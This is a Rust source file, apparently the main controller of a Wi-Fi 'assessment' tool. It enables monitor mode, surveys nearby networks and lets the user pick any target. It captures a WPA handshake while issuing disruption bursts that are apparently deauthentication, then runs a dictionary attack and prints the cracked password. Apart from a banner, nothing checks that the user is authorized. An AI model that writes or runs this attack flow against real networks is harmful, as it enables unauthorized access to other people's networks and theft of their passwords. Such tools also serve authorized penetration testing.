//! End-to-end assessment controller.
//!
//! Sequences preflight, monitor acquisition, survey, target selection,
//! handshake capture and the offline attack. The monitor capability is
//! released on every exit path — timeout, abort, interrupt or error —
//! before any result is surfaced.

use std::io;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, Result};
use serde::Serialize;
use tracing::debug;

use airward_wireless::{
    detect_interface, run_capture, run_survey, CancelFlag, CaptureConfig, MonitorSession,
    NetworkRecord, WirelessError,
};
use airward_wpa::{crack, resolve_wordlist, CrackOutcome, WpaError, DEFAULT_WORDLIST};

use crate::cli::Cli;
use crate::preflight;
use crate::select;

const BANNER_WIDTH: usize = 50;

/// Terminal state of one assessment, also the `--json` payload.
#[derive(Debug, Serialize)]
pub struct AssessmentSummary {
    /// Terminal outcome tag.
    pub outcome: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub target: Option<NetworkRecord>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub artifact: Option<PathBuf>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub secret: Option<String>,
    /// Disruption bursts issued during capture.
    pub disruption_bursts: u64,
}

impl AssessmentSummary {
    fn terminal(outcome: &'static str) -> Self {
        Self {
            outcome,
            target: None,
            artifact: None,
            secret: None,
            disruption_bursts: 0,
        }
    }

    /// Only a cleanly extracted secret counts as a recovered key.
    pub fn recovered(&self) -> bool {
        self.outcome == "recovered"
    }
}

fn is_cancellation(err: &anyhow::Error) -> bool {
    err.chain().any(|cause| {
        cause
            .downcast_ref::<WirelessError>()
            .is_some_and(WirelessError::is_cancelled)
            || cause
                .downcast_ref::<WpaError>()
                .is_some_and(WpaError::is_cancelled)
    })
}

fn default_capture_dir() -> PathBuf {
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_string());
    PathBuf::from(home).join("wifi_captures")
}

/// Run one full assessment. Returns the terminal summary; the process
/// exit code is derived from `recovered()`.
pub fn run_assessment(cli: &Cli, cancel: &CancelFlag) -> Result<AssessmentSummary> {
    println!(
        "Wi-Fi Network Security Assessment Tool v{}",
        env!("CARGO_PKG_VERSION")
    );
    println!("{}", "=".repeat(BANNER_WIDTH));
    println!("FOR AUTHORIZED SECURITY TESTING ONLY");
    println!("{}", "=".repeat(BANNER_WIDTH));

    // Fatal preflight: nothing is acquired yet, so failing here needs
    // no cleanup.
    preflight::ensure_root()?;
    preflight::check_dependencies()?;

    let interface =
        detect_interface(cli.interface.as_deref()).context("no usable wireless interface")?;
    println!("[+] Found wireless interface: {}", interface);

    println!("[*] Enabling monitor mode on {}...", interface);
    let mut monitor =
        MonitorSession::enable(&interface).context("failed to enable monitor mode")?;
    println!("[+] Monitor mode enabled: {}", monitor.name());

    let result = run_stages(cli, monitor.name(), cancel);

    // Guaranteed finalization region: the interface never stays in
    // monitor mode, whatever happened above.
    monitor.release();
    println!("[+] Monitor mode disabled and NetworkManager restored");

    match result {
        Ok(summary) => Ok(summary),
        Err(err) if is_cancellation(&err) => {
            println!("\n[*] Assessment interrupted by user");
            Ok(AssessmentSummary::terminal("interrupted"))
        }
        Err(err) => Err(err),
    }
}

/// Scanning through Cracking. Every early return is a terminal state
/// with its reason already printed; cancellation unwinds as an error.
fn run_stages(cli: &Cli, monitor: &str, cancel: &CancelFlag) -> Result<AssessmentSummary> {
    println!("[*] Scanning for networks ({}s)...", cli.survey_duration);
    let networks = run_survey(
        monitor,
        Duration::from_secs(cli.survey_duration),
        Some(cancel),
    )?;

    if networks.is_empty() {
        println!("[-] No networks found");
        return Ok(AssessmentSummary::terminal("no-networks"));
    }

    select::display_networks(&networks);
    let stdin = io::BufReader::new(io::stdin());
    let Some(target) = select::select_target(&networks, stdin, Some(cancel)) else {
        println!("[*] No target selected, aborting assessment");
        return Ok(AssessmentSummary::terminal("aborted"));
    };
    println!("\n[+] Selected target: {}", target.essid);

    let capture_dir = cli.capture_dir.clone().unwrap_or_else(default_capture_dir);
    let config =
        CaptureConfig::default().with_duration(Duration::from_secs(cli.capture_duration));
    println!(
        "\n[*] Capturing handshake for '{}' ({}s, this may take a few minutes)...",
        target.essid, cli.capture_duration
    );
    let report = run_capture(monitor, &target, &capture_dir, &config, Some(cancel))?;

    let Some(artifact) = report.artifact else {
        println!("[-] No capture file created");
        return Ok(AssessmentSummary {
            outcome: "no-artifact",
            target: Some(target),
            artifact: None,
            secret: None,
            disruption_bursts: report.bursts,
        });
    };
    println!("[+] Capture completed: {}", artifact.display());

    let primary = cli
        .wordlist
        .clone()
        .unwrap_or_else(|| PathBuf::from(DEFAULT_WORDLIST));
    let wordlist = match resolve_wordlist(&primary) {
        Ok(path) => path,
        Err(err @ WpaError::DictionaryUnavailable(_)) => {
            println!("[-] {}", err);
            return Ok(AssessmentSummary {
                outcome: "dictionary-unavailable",
                target: Some(target),
                artifact: Some(artifact),
                secret: None,
                disruption_bursts: report.bursts,
            });
        }
        Err(err) => return Err(err).context("failed to prepare wordlist"),
    };

    println!("\n[*] Attempting to crack handshake...");
    println!("[*] Using wordlist: {}", wordlist.display());
    let attempt = crack(
        &artifact,
        &wordlist,
        Duration::from_secs(cli.crack_timeout),
        Some(cancel),
    )
    .context("dictionary attack failed")?;
    debug!(?attempt.outcome, "crack attempt classified");

    let (outcome, secret) = match attempt.outcome {
        CrackOutcome::KeyFound(secret) => {
            print_success(&target, &secret);
            ("recovered", Some(secret))
        }
        CrackOutcome::KeyFoundUnextracted => {
            println!("[+] Key found, but the value could not be recovered from engine output");
            print_empty_handed();
            ("key-unextractable", None)
        }
        CrackOutcome::NoHandshake => {
            println!("[-] No valid handshake found in capture");
            print_empty_handed();
            ("no-handshake", None)
        }
        CrackOutcome::TimedOut => {
            println!("[-] Cracking timed out (likely complex password)");
            print_empty_handed();
            ("timed-out", None)
        }
        CrackOutcome::NotFound { progress } => {
            println!("[-] Password not found in wordlist");
            for line in &progress {
                println!("[~] Progress info: {}", line);
            }
            print_empty_handed();
            ("not-found", None)
        }
    };

    Ok(AssessmentSummary {
        outcome,
        target: Some(target),
        artifact: Some(artifact),
        secret,
        disruption_bursts: report.bursts,
    })
}

fn print_success(target: &NetworkRecord, secret: &str) {
    println!("\n{}", "=".repeat(BANNER_WIDTH));
    println!("PASSWORD CRACKED SUCCESSFULLY!");
    println!("{}", "=".repeat(BANNER_WIDTH));
    println!("Network:  {}", target.essid);
    println!("BSSID:    {}", target.bssid);
    println!("Password: {}", secret);
    println!("{}", "=".repeat(BANNER_WIDTH));
}

fn print_empty_handed() {
    println!("\n[-] Assessment completed - password not recovered");
    println!("This could mean:");
    println!("  1. Password not in wordlist");
    println!("  2. Strong password requiring more sophisticated methods");
    println!("  3. No valid handshake captured");
}
